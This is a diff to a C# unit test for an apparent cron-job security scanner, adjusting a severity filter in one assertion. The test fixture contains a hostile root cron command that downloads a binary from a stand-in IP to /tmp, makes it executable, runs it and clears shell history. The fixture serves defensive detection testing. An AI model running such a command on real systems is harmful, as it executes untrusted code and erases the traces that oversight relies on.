@@ -63,7 +63,7 @@ public sealed class CronTests
     [Fact]
     public void Several_heuristics_of_one_job_make_one_finding()
     {
-        Finding finding = Assert.Single(Case.Debian().UserCron("root", "* * * * *", "cd /tmp; wget http://203.0.113.9/x86; chmod +x x86; ./x86; history -c").Judge(), finding => finding.Severity > Severity.Info);
+        Finding finding = Assert.Single(Case.Debian().UserCron("root", "* * * * *", "cd /tmp; wget http://203.0.113.9/x86; chmod +x x86; ./x86; history -c").Judge(), finding => finding.Severity > Severity.Low);
         Assert.Equal(Severity.Critical, finding.Severity);
         Assert.Contains("shell history", finding.Message);
     }
